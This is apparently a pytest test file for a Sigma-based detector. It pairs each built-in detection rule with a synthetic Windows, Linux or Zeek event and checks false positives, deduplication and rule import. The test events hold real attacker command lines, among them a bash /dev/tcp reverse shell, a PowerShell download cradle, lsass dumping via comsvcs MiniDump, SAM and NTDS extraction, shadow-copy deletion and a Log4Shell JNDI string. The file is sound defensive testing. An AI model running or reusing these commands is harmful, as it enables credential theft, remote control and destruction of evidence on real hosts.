import pytest
from msgspec.structs import replace

from cronos.detect.sigma import BUILTIN, SigmaConfig, SigmaDetector
from cronos.errors import InputError
from cronos.types import Entity, EntityKind, EvidenceClass, Observation, Provenance

SYSMON = "Microsoft-Windows-Sysmon/Operational"
SECOND = 1_000_000_000


def windows(channel, number, at_s=0, seq=1, **native):
    return Observation(
        source="events.jsonl",
        seq=seq,
        time_ns=at_s * SECOND,
        activity="base_event",
        provenance=Provenance.AUTHENTICATED,
        actor=Entity(EntityKind.USER, "SHIRE\\eve"),
        target=Entity(EntityKind.HOST, "wks1"),
        fields={"metadata.product": "windows", "metadata.log_name": channel},
        native={"EventID": number, "Channel": channel} | native,
        sensed_boot_ns=9,
    )


def other(product, log, activity, **native):
    return Observation(
        "s", 1, 0, activity, Provenance.SPOOFABLE,
        fields={"metadata.product": product, "metadata.log_name": log}, native=native,
    )  # fmt: skip


def process(image, line, parent="C:\\Windows\\explorer.exe"):
    return windows(SYSMON, 1, Image=image, CommandLine=line, ParentImage=parent)


S32 = "C:\\Windows\\System32\\"
STORIES = {
    "lsass-memory-access": windows(
        SYSMON, 10, TargetImage=S32 + "lsass.exe", SourceImage="C:\\x.exe", GrantedAccess="0x1010"
    ),
    "dcsync": windows(
        "Security", 4662, SubjectUserName="eve",
        Properties="%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}",
    ),
    "audit-log-cleared": windows("Security", 1102),
    "encoded-powershell": process(S32 + "powershell.exe", "powershell -enc " + "QQBC" * 12),
    "download-cradle": windows(
        "Microsoft-Windows-PowerShell/Operational", 4104,
        ScriptBlockText="IEX (New-Object Net.WebClient).DownloadString('http://x')",
    ),
    "download-cradle-process": process(
        S32 + "cmd.exe", "powershell IEX (New-Object Net.WebClient).DownloadString('http://x')"
    ),
    "mshta-script": process(S32 + "mshta.exe", "mshta.exe http://192.0.2.7/a.hta"),
    "rundll32-abuse": process(S32 + "rundll32.exe", "rundll32 comsvcs.dll, MiniDump 600 x full"),
    "regsvr32-scriptlet": process(S32 + "regsvr32.exe", "regsvr32 /s /i:http://x scrobj.dll"),
    "bitsadmin-download": process(S32 + "bitsadmin.exe", "bitsadmin /transfer j http://x c:\\x"),
    "suspicious-service": windows("System", 7045, ImagePath="%COMSPEC% /c x", ServiceName="a"),
    "suspicious-service-security": windows("Security", 4697, ServiceFileName="cmd.exe /c x"),
    "psexec-service": windows(
        "System", 7045, ServiceName="PSEXESVC", ImagePath="%SystemRoot%\\PSEXESVC.exe"
    ),
    "scheduled-task-script": process(S32 + "schtasks.exe", "schtasks /create /tr powershell.exe"),
    "wdigest-downgrade": windows(
        SYSMON, 13, EventType="SetValue", Details="DWORD (0x00000001)",
        TargetObject="HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest"
        "\\UseLogonCredential",
    ),
    "rdp-enabled": windows(
        SYSMON, 13, Details="DWORD (0x00000000)", Image="C:\\x.exe",
        TargetObject="HKLM\\System\\CurrentControlSet\\Control\\Terminal Server"
        "\\fDenyTSConnections",
    ),
    "uac-bypass-ms-settings": windows(
        SYSMON, 13, TargetObject="HKU\\S-1_Classes\\ms-settings\\shell\\open\\command\\(Default)"
    ),
    "shadow-copies-deleted": process(S32 + "vssadmin.exe", "vssadmin delete shadows /all"),
    "directory-database-dump": process(S32 + "ntdsutil.exe", 'ntdsutil "ac i ntds" ifm "cr fu"'),
    "registry-hive-saved": process(S32 + "reg.exe", "reg save HKLM\\SAM c:\\sam"),
    "mavinject-injection": process(S32 + "mavinject.exe", "mavinject 700 /INJECTRUNNING a.dll"),
    "remote-thread-odd-target": windows(
        SYSMON, 8, TargetImage=S32 + "notepad.exe", SourceImage="C:\\x.exe"
    ),
    "local-admin-group-listed": process(S32 + "net.exe", "net localgroup administrators"),
    "kerberoasting": windows(
        "Security", 4769, TicketEncryptionType="0x17", Status="0x0", ServiceName="sql",
        TargetUserName="eve@SHIRE",
    ),
    "zerologon-password-reset": windows(
        "Security", 4742, SubjectUserName="ANONYMOUS LOGON", TargetUserName="DC1$",
        PasswordLastSet="9/16/2020 9:00:00 AM",
    ),
    "web-server-shell": process(S32 + "cmd.exe", "cmd /c whoami", S32 + "inetsrv\\w3wp.exe"),
    "linux-reverse-shell": other(
        "linux", "auditd", "process_activity", CommandLine="bash -i >& /dev/tcp/192.0.2.7/443 0>&1"
    ),
    "log4shell-request": other("zeek", "http", "http_activity", user_agent="${jndi:ldap://x/a}"),
    "firewall-opened": process(
        S32 + "netsh.exe", "netsh advfirewall firewall add rule action=allow"
    ),
    "logon-script-registry": windows(
        SYSMON, 13, EventType="SetValue",
        TargetObject="HKU\\S-1\\Environment\\UserInitMprLogonScript",
    ),
    "event-log-disabled": windows(
        SYSMON, 13, Details="DWORD (0x00000004)",
        TargetObject="HKLM\\System\\CurrentControlSet\\Services\\EventLog\\Start",
    ),
    "wmi-process": process(S32 + "cmd.exe", "cmd /c x", S32 + "wbem\\WmiPrvSE.exe"),
    "fodhelper-child": process(S32 + "cmd.exe", "cmd /c x", S32 + "fodhelper.exe"),
}  # fmt: skip


@pytest.fixture(scope="module")
def builtin():
    return SigmaDetector(SigmaConfig())


def test_every_rule_of_ours_compiles_and_has_a_story(builtin):
    assert builtin.refused == ()
    assert {rule.rule_id for rule in builtin.rules} == {f"cronos-{name}" for name in STORIES}
    assert len(list(BUILTIN.glob("*.yml"))) == len(STORIES)


@pytest.mark.parametrize("name", STORIES)
def test_a_rule_of_ours_matches_its_story(builtin, name):
    assert f"cronos-{name}" in {rule.rule_id for rule in builtin.matching(STORIES[name])}
    assert builtin.matching(STORIES[name]) == builtin.matching_naively(STORIES[name])


@pytest.mark.parametrize(
    "harmless",
    [
        process(S32 + "cmd.exe", "cmd /c dir"),
        process(S32 + "powershell.exe", "powershell -File c:\\ops\\report.ps1"),
        process(S32 + "reg.exe", "reg query HKLM\\Software"),
        process(S32 + "net.exe", "net use z: \\\\files\\share"),
        windows("Security", 4662, SubjectUserName="DC1$",
                Properties="{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"),
        windows("Security", 4624, TargetUserName="eve"),
        windows("System", 7045, ServiceName="vpn", ImagePath="C:\\Program Files\\Vpn\\vpn.exe"),
        windows(SYSMON, 10, TargetImage=S32 + "lsass.exe", SourceImage=S32 + "svchost.exe",
                GrantedAccess="0x1010"),
        other("zeek", "http", "http_activity", user_agent="curl/8.5"),
    ],
)  # fmt: skip
def test_everyday_events_match_nothing(builtin, harmless):
    assert builtin.matching(harmless) == []


def test_a_finding_says_who_what_and_why(builtin):
    detector = SigmaDetector(SigmaConfig())
    (finding,) = detector.detect([STORIES["dcsync"]])
    assert finding.evidence is EvidenceClass.DECLARED
    assert finding.confidence == 0.9
    assert finding.severity == 5
    assert finding.techniques == ("T1003.006",)
    assert finding.actor == Entity(EntityKind.USER, "SHIRE\\eve")
    assert finding.target == Entity(EntityKind.HOST, "wks1")
    assert finding.finding_id == "sigma.cronos-dcsync:events.jsonl#1"
    assert finding.sensed_boot_ns == 9
    assert "author: Cronos" in finding.references
    assert "SHIRE\\eve on wks1 matched the critical rule" in finding.explanation
    assert "EventID = 4662" in finding.explanation


def test_the_same_rule_on_the_same_host_is_told_once_a_minute():
    detector = SigmaDetector(SigmaConfig())
    cleared = [windows("Security", 1102, at_s=n, seq=n + 1) for n in range(0, 130, 10)]
    assert [f.time_ns // SECOND for f in detector.detect(cleared)] == [0, 60, 120]
    every = SigmaDetector(SigmaConfig(repeat_s=0))
    assert len(every.detect(cleared)) == len(cleared)


def test_an_imported_rule_never_acts_alone_and_broken_ones_are_listed(tmp_path):
    detection = "detection: {a: {EventID: 1102}, condition: a}\n"
    source = "logsource: {product: windows, service: security}\n"
    (tmp_path / "good.yml").write_text(
        f"id: one\ntitle: Mine\nlevel: critical\nconfidence: 0.99\n{source}{detection}"
    )
    (tmp_path / "twin.yml").write_text(f"id: one\nlevel: high\n{source}{detection}")
    (tmp_path / "low.yml").write_text(f"id: two\nlevel: low\n{source}{detection}")
    (tmp_path / "bad.yml").write_text("correlation: {}")
    (tmp_path / "notes.txt").write_text("no rule")
    detector = SigmaDetector(SigmaConfig(rules=(str(tmp_path),), builtin=False))
    (finding,) = detector.detect([windows("Security", 1102)])
    assert finding.confidence == 0.50
    assert [rule.reason for rule in detector.refused] == [
        "It has a correlation rule.",
        "Another rule has the id one.",
    ]


def test_a_folder_that_is_not_there_is_an_error(tmp_path):
    with pytest.raises(InputError, match="not there"):
        SigmaDetector(SigmaConfig(rules=(str(tmp_path / "none"),)))


def test_too_many_rules_are_an_error(tmp_path):
    with pytest.raises(InputError, match="above 3"):
        SigmaDetector(SigmaConfig(max_rules=3))


def test_a_saved_state_goes_on_where_it_was():
    first, second = SigmaDetector(SigmaConfig()), SigmaDetector(SigmaConfig())
    first.detect([windows("Security", 1102)])
    second.restore(first.snapshot())
    assert second.detect([windows("Security", 1102, at_s=5, seq=2)]) == []
    with pytest.raises(ValueError, match="not a saved"):
        second.restore(b"x")


def test_a_forged_event_does_not_silence_the_genuine_one():
    detector = SigmaDetector(SigmaConfig())
    genuine = STORIES["audit-log-cleared"]
    forged = replace(genuine, provenance=Provenance.SPOOFABLE)
    found = detector.detect([forged, genuine, genuine])
    assert [one.provenance for one in found] == [Provenance.SPOOFABLE, Provenance.AUTHENTICATED]


LINK = (
    "https://x.example/?q=${jndi:ldap://x}/dev/tcp/1/2 nc -e /bin/sh mkfifo nc sh -i "
    "socket.socket os.dup2 GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1 ntds.dit "
    "shadowcopy delete vssadmin -INJECTRUNNING scrobj save hklm\\sam ifm"
)


@pytest.mark.parametrize(
    "observation",
    [
        other("zeek", "http", "http_activity", uri=LINK),
        other("linux", "audit", "process_activity", CommandLine=f"firefox {LINK}"),
        process("C:\\Program Files\\Browser\\browser.exe", f"browser.exe {LINK}"),
    ],
    ids=["request", "linux browser", "windows browser"],
)
def test_a_link_that_a_victim_follows_cannot_have_the_victim_isolated(observation):
    found = SigmaDetector(SigmaConfig()).detect([observation])
    assert found
    assert all(one.confidence < 0.85 for one in found)
